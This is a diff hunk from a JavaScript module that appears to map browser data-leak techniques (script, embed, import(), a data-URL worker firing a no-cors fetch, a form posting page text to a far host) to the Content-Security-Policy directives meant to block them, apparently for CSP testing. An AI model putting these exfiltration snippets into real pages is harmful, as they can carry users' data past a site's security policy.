@@ -50,7 +50,7 @@ export const COVERED = {
   embed: [`const embed=document.createElement("embed");embed.src=${FAR};document.body.append(embed)`, ["object-src", "default-src"], { also: ["frame-src", "require-trusted-types-for"] }],
   "script element": [`const script=document.createElement("script");script.src=${FAR};document.body.append(script)`, ["script-src", "require-trusted-types-for"], { also: ["default-src"] }],
   "import()": [`import(${FAR}).catch(()=>{})`, ["script-src"], { also: ["default-src"] }],
-  worker: ["new Worker(`leak/${ID}?${part}`)", ["worker-src", "require-trusted-types-for"], { also: ["default-src", "script-src"] }],
+  worker: [`new Worker("data:text/javascript,postMessage(1)").onmessage=()=>fetch(${FAR},{mode:"no-cors"}).catch(()=>{})`, ["worker-src", "require-trusted-types-for"], { also: ["default-src", "script-src", "connect-src"] }],
   form: [`const form=document.createElement("form");form.action=${FAR};form.method="post";const field=document.createElement("input");field.name="t";field.value=text;form.append(field);document.body.append(form);form.submit()`, ["form-action"]],
   prefetch: [link("prefetch"), ["default-src"], { also: ["connect-src", "font-src", "media-src", "object-src", "frame-src", "worker-src", "manifest-src", "img-src"], except: ["firefox"] }],
   preload: [link("preload", 'link.as="image";'), ["img-src", "default-src"]],
